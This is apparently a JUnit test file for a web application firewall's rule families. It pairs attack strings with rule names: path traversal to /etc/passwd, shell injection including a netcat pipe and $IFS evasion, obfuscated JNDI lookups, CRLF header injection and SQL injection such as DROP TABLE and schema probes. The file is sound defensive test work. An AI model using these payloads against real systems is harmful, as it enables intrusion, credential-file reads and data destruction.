package dev.faultline.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Set;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The smaller families, each on its own: traversal, command, JNDI, CRLF and the named SQL rules. */
@DisplayName("attack families")
class FamilyTest {

    @Nested
    @DisplayName("Traversal")
    class TraversalTest {
        final Traversal t = new Traversal();

        @ParameterizedTest(name = "{0} -> {1}")
        @CsvSource(delimiter = '|', value = {
            "../../etc/passwd         | traversal.dot-dot",
            "..%2f..%2fboot.ini       | traversal.dot-dot",
            "%c0%ae%c0%ae/x           | traversal.dot-dot",
            "..;/admin                | traversal.dot-dot",
            "/etc//passwd             | traversal.sensitive-file",
            "C:\\Windows\\System32\\x | traversal.sensitive-file",
        })
        void attacks(String value, String rule) {
            assertTrue(Families.rules(t, "query:f", value).contains(rule), value);
        }

        @ParameterizedTest(name = "{0}")
        @ValueSource(strings = {"1.5 kg", "https://example.com/a/b.html", "v1.2.3", "/etc is a directory",
            "wait..."})
        void benign(String value) {
            assertEquals(Set.of(), Families.rules(t, "query:f", value));
        }

        @Test
        @DisplayName("needs two steps up in a body")
        void body() {
            assertEquals(Set.of(), Families.rules(t, "body", "see ../a"));
            assertEquals(Set.of("traversal.dot-dot"), Families.rules(t, "body", "../../a"));
        }
    }

    @Nested
    @DisplayName("Command")
    class CommandTest {
        final Command c = new Command();

        @ParameterizedTest(name = "{0} -> {1}")
        @CsvSource(delimiter = '#', value = {
            "x; cat /etc/hosts      # cmd.shell-metachar",
            "x && whoami            # cmd.shell-metachar",
            "x | nc 10.0.0.1 4444   # cmd.shell-metachar",
            "$(id)                  # cmd.substitution",
            "x`uname -a`            # cmd.substitution",
            "cat$IFS/etc/passwd     # cmd.ifs-evasion",
            "x%0aid                 # cmd.shell-metachar",
        })
        void attacks(String value, String rule) {
            assertTrue(Families.rules(c, value).contains(rule), value);
        }

        @ParameterizedTest(name = "{0}")
        @ValueSource(strings = {"Milk; cat food", "R&D", "salt & pepper", "use `ls -la` to list", "$5 off",
            "AT&T; ping me later"})
        void benign(String value) {
            assertEquals(Set.of(), Families.rules(c, value));
        }
    }

    @Nested
    @DisplayName("Jndi")
    class JndiTest {
        final Jndi j = new Jndi();

        @ParameterizedTest(name = "{0}")
        @ValueSource(strings = {"${jndi:ldap://x/a}", "${${lower:j}ndi:ldap://x}", "${${::-j}${::-n}di:rmi://x}",
            "%24%7Bjndi:dns://x%7D", "${${upper:j}ndi:x}"})
        void attacks(String value) {
            assertTrue(Families.rules(j, value).contains("jndi.lookup"), value);
        }

        @Test
        void nested() {
            assertTrue(Families.rules(j, "${".repeat(20) + "x" + "}".repeat(20)).contains("jndi.nested-lookup"));
            assertEquals(Set.of(), Families.rules(j, "${user.home} and ${env:PATH}"));
        }
    }

    @Nested
    @DisplayName("Crlf")
    class CrlfTest {
        final Crlf c = new Crlf();

        @Test
        void headers() {
            assertEquals(Set.of("crlf.header-injection"), Families.rules(c, "x%0d%0aSet-Cookie: a=b"));
            assertEquals(Set.of(), Families.rules(c, "line one%0aline two"));
            assertEquals(Set.of(), Families.rules(c, "body", "x%0d%0aSet-Cookie: a=b"));
            assertEquals(Set.of("crlf.header-injection"), Families.rules(c, "path", "/a%0ab"));
            assertEquals(Set.of(), Families.rules(c, "see%0ahttp://example.com"));
        }
    }

    @Nested
    @DisplayName("Sql (named rules, then syntax)")
    class SqlTest {
        final Sql s = new Sql();

        @ParameterizedTest(name = "{0} -> {1}")
        @CsvSource(delimiter = '|', quoteCharacter = '~', value = {
            "~' or '1'='1~                     | sqli.tautology",
            "1 union select 1,2                | sqli.union-select",
            "1/**/UnIoN/**/SeLeCt/**/null--    | sqli.union-select",
            "~x'; DROP TABLE users;--~         | sqli.stacked-query",
            "admin'--                          | sqli.comment-out",
            "1 AND SLEEP(5)                    | sqli.time-delay",
            "~'||(select 1)||'~                | sqli.subquery",
            "~1' and extractvalue(1,0x7e)--~   | sqli.error-based",
            "~' union select table_name from information_schema.tables--~ | sqli.schema-probe",
            "HOPE AND 8=3                      | sqli.syntax",
            "~A' * 'B~                         | sqli.syntax",
        })
        void attacks(String value, String rule) {
            assertTrue(Families.rules(s, value).contains(rule), () -> value + " " + Families.rules(s, value));
        }

        @Test
        @DisplayName("reports sqli.syntax only when no named rule matched")
        void syntaxLast() {
            assertFalse(Families.rules(s, "1 or 1=1").contains("sqli.syntax"));
            assertEquals(Set.of(), Families.rules(s, "O'Brien"));
        }
    }

    @Nested
    @DisplayName("Canonicalizer (one fused pass per round)")
    class CanonicalizerTest {

        @Test
        @DisplayName("decodes and normalises in one pass and says when a further round could decode more")
        void pass() {
            Canonicalizer c = new Canonicalizer();
            char[] src = "A%2520B+%26lt;".toCharArray();
            char[] dst = new char[src.length];
            long r = c.pass(src, src.length, dst, true, true, true, new Canonicalizer.Work());
            assertEquals("a%20b &lt;", new String(dst, 0, (int) r));
            assertEquals(Canonicalizer.CHANGED | Canonicalizer.MORE, r & (Canonicalizer.CHANGED | Canonicalizer.MORE));
            char[] src2 = "plain text".toCharArray();
            long r2 = c.pass(src2, src2.length, new char[src2.length], true, false, true, new Canonicalizer.Work());
            assertEquals(0, r2 & (Canonicalizer.CHANGED | Canonicalizer.MORE));
        }

        @Test
        @DisplayName("folds full-width and control-split escapes, then decodes them in the next round")
        void folded() {
            assertEquals("<", Families.SCANNER.canonical("\uFF05\uFF13\uFF23", new Canonicalizer.Work()).text());
            assertEquals("<", Families.SCANNER.canonical("%\u00003c", new Canonicalizer.Work()).text());
        }
    }
}
